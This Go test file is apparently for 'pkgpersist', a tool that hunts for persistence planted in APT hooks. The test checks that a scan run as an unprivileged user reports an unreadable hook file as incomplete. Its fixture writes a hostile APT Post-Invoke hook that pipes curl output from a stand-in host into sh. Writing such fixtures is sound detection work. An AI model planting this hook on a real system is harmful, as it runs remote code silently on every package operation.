package hunt_test

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pkgpersist/pkgpersist/collector/store"
	"github.com/pkgpersist/pkgpersist/test/aptoracle"
	"github.com/pkgpersist/pkgpersist/test/need"
)

// TestHuntAsNonRoot: a hunt by a user who cannot read one hook file is
// incomplete, says which file and why, and exits 1, instead of reporting
// a clean host (APT itself, as that user, would run nothing: but APT runs
// as root and reads the file).
func TestHuntAsNonRoot(t *testing.T) {
	if os.Geteuid() != 0 {
		need.Missing(t, "dropping to nobody needs root")
	}
	setpriv := need.Program(t, "setpriv")
	// every directory on the way must be searchable by nobody
	base, err := os.MkdirTemp("", "pkgpersist-nonroot-")
	must(t, err)
	t.Cleanup(func() { os.RemoveAll(base) })
	must(t, os.Chmod(base, 0o755))
	bin := filepath.Join(base, "pkgpersist")
	if out, err := exec.Command("go", "build", "-tags", "sqlite_vtable", "-o", bin, "../").CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	root := filepath.Join(base, "root")
	must(t, aptoracle.CopyTree("../../test/roots/planted", root))
	must(t, filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		if fi.IsDir() {
			return os.Chmod(p, 0o755)
		}
		return os.Chmod(p, 0o644)
	}))
	secret := "/etc/apt/apt.conf.d/99zz-secret"
	must(t, os.WriteFile(filepath.Join(root, secret), []byte(`DPkg::Post-Invoke { "curl -s http://x/y | sh"; };`+"\n"), 0o600))
	dbdir := filepath.Join(base, "db")
	must(t, os.Mkdir(dbdir, 0o755))
	must(t, os.Chown(dbdir, 65534, 65534))
	db := filepath.Join(dbdir, "p.db")

	cmd := exec.Command(setpriv, "--reuid=nobody", "--regid=nogroup", "--clear-groups", bin, "hunt", "--db", db, "--root", root, "--format", "json")
	cmd.Dir = base
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err = cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	errs := stderr.String()
	if code != 1 {
		t.Errorf("exit %d, want 1\n%s", code, errs)
	}
	var reason string
	for _, l := range strings.Split(errs, "\n") {
		if strings.Contains(l, ": incomplete: ") && strings.Contains(l, secret) {
			reason = l
		}
	}
	if !strings.Contains(reason, "permission") || !strings.Contains(reason, "run as root") {
		t.Errorf("no reason naming %s, the permission problem and run as root:\n%s", secret, errs)
	}
	if !strings.Contains(errs, "0 ok, 1 incomplete, 0 failed") {
		t.Errorf("summary:\n%s", errs)
	}

	// query says the same of its rows
	q := exec.Command(setpriv, "--reuid=nobody", "--regid=nogroup", "--clear-groups", bin, "query", "--root", root, "--format", "json", "SELECT hook FROM apt_hooks")
	q.Dir = base
	qerr, err := q.CombinedOutput()
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 1 || !strings.Contains(string(qerr), "could not read "+secret+" (permission") || !strings.Contains(string(qerr), "run as root") {
		t.Errorf("query as nobody: %v\n%s", err, qerr)
	}

	st, err := store.Open(db)
	must(t, err)
	defer st.Close()
	outs, err := st.HostOutcomes(context.Background(), 1)
	must(t, err)
	if len(outs) != 1 || outs[0].State != "incomplete" || !strings.Contains(strings.Join(outs[0].Reasons, "\n"), secret) {
		t.Fatalf("stored outcome: %+v", outs)
	}
	found := false
	for _, p := range outs[0].Problems {
		if p.Path == secret && p.Cause == "permission" {
			found = true
		}
	}
	if !found {
		t.Errorf("the problem with %s is not stored: %+v", secret, outs[0].Problems)
	}
}
